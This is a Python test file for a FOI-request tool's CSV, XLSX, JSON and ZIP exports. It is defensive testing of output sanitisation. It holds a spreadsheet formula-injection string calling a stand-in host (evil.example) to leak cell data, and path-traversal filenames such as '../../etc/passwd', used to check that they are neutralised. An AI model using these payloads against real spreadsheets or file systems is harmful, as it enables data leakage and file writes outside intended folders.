"""CSV, XLSX and JSON exports read back with real readers (csv, openpyxl, json), and the
ZIP of messages with names that cannot escape their folder."""

from __future__ import annotations

import csv
import email
import io
import json
import zipfile
from datetime import date, datetime
from email.policy import default as default_policy
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from foibot.services.exports import (
    ExportFormat,
    safe_name,
    write_export,
    write_messages_zip,
    xlsx_bytes,
)
from foibot.services.results import AnswersGrid, build_grid
from foibot.store.db import Database
from foibot.store.models import RawMessage
from tests.results import factories as f
from tests.results.cases import AUTHORITY, DATES, EXPECTED, REQUEST, THEIR_REF, response_text

TODAY = date(2022, 7, 1)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def grid(db: Database) -> AnswersGrid:
    """Campaign 000 sent to Barnet (answered by the fixture letter), to a council that
    has not answered, and to one whose answer is a formula."""
    sent, answered = (date.fromisoformat(d) for d in DATES["000"])
    with db.transaction() as s:
        camp = f.campaign(s, "remote-workers", REQUEST["000"])
        barnet = f.authority(s, *AUTHORITY["000"])
        req = f.request(s, camp, barnet, sent=sent)
        f.response(s, req, response_text("000"), day=answered, their_ref=THEIR_REF["000"])
        f.request(s, camp, f.authority(s, "Slow Council", "foi@slow.gov.uk"), sent=sent)
        odd = f.request(s, camp, f.authority(s, "Odd Council", "foi@odd.gov.uk"), sent=sent)
        f.response(
            s,
            odd,
            "1a. How many of your employees work with children or vulnerable people (e.g. "
            "social workers, or those who work in fostering, education or child and adult "
            f"care)?\n{HOSTILE}\n",
            day=answered,
            outcome="partially_successful",
        )
    return build_grid(db, "remote-workers", today=TODAY)


def test_csv_reads_back(grid: AnswersGrid, tmp_path: Path) -> None:
    out = tmp_path / "answers.csv"
    write_export(grid, ExportFormat.CSV, out)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["authority"] for r in rows] == [
        "London Borough of Barnet",
        "Odd Council",
        "Slow Council",
    ]
    barnet, odd, slow = rows
    assert barnet["their_reference"] == "6073489"
    assert (barnet["status"], barnet["outcome"], barnet["on_time"]) == (
        "responded",
        "successful",
        "yes",
    )
    assert (barnet["received"], barnet["due"], barnet["responded"]) == (
        "2020-02-11",
        "2020-03-10",
        "2020-02-24",
    )
    assert barnet["questions_aligned"] == "7/7"
    for key, (text, value) in EXPECTED["000"].items():  # type: ignore[misc]
        assert " ".join(barnet[f"Q{key}"].split()) == text
        assert barnet[f"Q{key} value"] == (value or "")
    assert slow["status"] == "awaiting_response" and slow["Q1a"] == "" and slow["on_time"] == ""
    # a formula from a council's email is neutralised
    assert odd["Q1a"] == "'" + HOSTILE
    assert odd["questions_aligned"] == "1/7"


def test_xlsx_reads_back_with_frozen_header_and_wrapped_text(grid: AnswersGrid) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(grid)))
    sheet = workbook["Answers"]
    assert sheet.freeze_panes == "B2"
    header = [c.value for c in sheet[1]]
    assert header == grid.columns()
    assert all(c.font.bold for c in sheet[1])
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    barnet = {h: c for h, c in zip(header, rows["London Borough of Barnet"], strict=True)}
    assert barnet["due"].value == datetime(2020, 3, 10)  # a real date cell
    assert barnet["on_time"].value == "yes"
    assert barnet["Q1e"].value == "Data is not logged, information not held."
    assert barnet["Q1e value"].value == "not held"
    assert barnet["Q1e"].alignment.wrap_text
    odd = {h: c for h, c in zip(header, rows["Odd Council"], strict=True)}
    assert odd["Q1a"].value == HOSTILE and odd["Q1a"].data_type == "s"  # text, not a formula
    width_answer = sheet.column_dimensions[barnet["Q1b"].column_letter].width
    width_status = sheet.column_dimensions[barnet["status"].column_letter].width
    assert 30 < width_answer <= 62 and width_status < 30
    questions = workbook["Questions"]
    assert [c.value for c in questions["A"]][1:] == [q.key for q in grid.questions]
    assert questions["C4"].value.splitlines()[0] == "Basic mobile phone"


def test_json_reads_back(grid: AnswersGrid, tmp_path: Path) -> None:
    out = tmp_path / "answers.json"
    write_export(grid, ExportFormat.JSON, out)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["campaign"] == "remote-workers"
    assert [q["key"] for q in data["questions"]] == list(EXPECTED["000"])
    barnet = data["rows"][0]
    assert barnet["due"] == "2020-03-10" and barnet["on_time"] is True
    assert barnet["answers"]["1f"]["value"] == "Yes, we prevent some tasks"
    assert barnet["answers"]["1f"]["method"] == "heading"
    assert barnet["responses"][0]["aligned"] == 7
    slow = data["rows"][2]
    assert slow["answers"]["1a"] == {
        "text": "",
        "value": None,
        "aligned": False,
        "method": None,
        "evidence": "",
        "flag": "no response yet",
    }


def test_write_to_a_missing_folder_is_one_clear_error(grid: AnswersGrid, tmp_path: Path) -> None:
    from foibot.errors import UserInputError

    with pytest.raises(UserInputError, match=r"cannot write .*nowhere/a\.csv"):
        write_export(grid, ExportFormat.CSV, tmp_path / "nowhere" / "a.csv")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("London Borough of Barnet", "London-Borough-of-Barnet"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\evil.exe", "evil.exe"),
        ("/abs/path/.hidden", "hidden"),
        ("Cyngor Gwynedd – Ymateb", "Cyngor-Gwynedd-Ymateb"),
        ("Réponse été.pdf", "Reponse-ete.pdf"),
        ("..", "fallback"),
        ("", "fallback"),
        (None, "fallback"),
        ("x" * 300 + ".pdf", "x" * 76 + ".pdf"),
    ],
)
def test_safe_names(text: str | None, expected: str) -> None:
    assert safe_name(text, "fallback") == expected


def test_messages_zip(db: Database, tmp_path: Path) -> None:
    storage = tmp_path / "data"
    pdf = f.Part("../../../etc/passwd", "application/pdf", b"%PDF-1.4 letter", "letter text")
    sheet = f.Part("figures.xlsx", "application/octet-stream", b"PK\x03\x04 sheet")
    with db.transaction() as s:
        camp = f.campaign(s, "parking", "1. How many fines?")
        evil = f.authority(s, "../../Evil/Council", "foi@evil.gov.uk")
        barnet = f.authority(s, "London Borough of Barnet", "foi@barnet.gov.uk")
        r1 = f.request(s, camp, evil, sent=TODAY)
        r2 = f.request(s, camp, barnet, sent=TODAY)
        m1 = f.response(s, r1, "See attached.", day=TODAY, parts=(pdf, sheet), storage_dir=storage)
        m2 = f.response(s, r2, "1. 45", day=TODAY, parts=(sheet,))  # file not saved: from raw
        raw1 = s.scalar(select(RawMessage.data).where(RawMessage.sha256 == m1.raw_sha256))
        m2_id = m2.id
    # the saved PDF is removed: it must come out of the raw message instead
    (storage / m1.attachments[0].stored_name).unlink()
    report = write_messages_zip(db, "parking", tmp_path / "m.zip", storage_dir=storage)
    with zipfile.ZipFile(tmp_path / "m.zip") as archive:
        names = archive.namelist()
        assert all(not n.startswith(("/", "..")) and "/../" not in n for n in names)
        folders = {n.split("/")[0] for n in names if "/" in n}
        assert folders == {"Evil-Council", "London-Borough-of-Barnet"}
        evil_files = sorted(n for n in names if n.startswith("Evil-Council/"))
        assert evil_files == [
            "Evil-Council/2022-07-01_in_response_3.eml",
            "Evil-Council/2022-07-01_in_response_3_att1_passwd",  # only the last safe part
            "Evil-Council/2022-07-01_in_response_3_att2_figures.xlsx",
            "Evil-Council/2022-07-01_out_request_1.txt",  # no raw bytes stored: its text
        ]
        reply = next(n for n in evil_files if n.endswith("_3.eml"))
        assert archive.read(reply) == raw1
        parsed = email.message_from_bytes(archive.read(reply), policy=default_policy)
        assert parsed["From"].addresses[0].addr_spec == "foi@evil.gov.uk"
        attachment = next(n for n in evil_files if n.endswith("passwd"))
        assert archive.read(attachment) == b"%PDF-1.4 letter"
        barnet_sheet = next(n for n in names if n.startswith("London") and n.endswith(".xlsx"))
        assert archive.read(barnet_sheet) == b"PK\x03\x04 sheet"
        assert f"_{m2_id}_att1_" in barnet_sheet
        index = list(csv.DictReader(io.StringIO(archive.read("index.csv").decode())))
        assert {r["file"] for r in index} == set(names) - {"index.csv"}
        assert {r["original_name"] for r in index} >= {"../../../etc/passwd", "figures.xlsx"}
    # the outgoing requests have no stored bytes in this test: their text is written
    assert report.messages == 4 and report.attachments == 3
    assert sum("raw message not stored" in m for m in report.missing) == 2
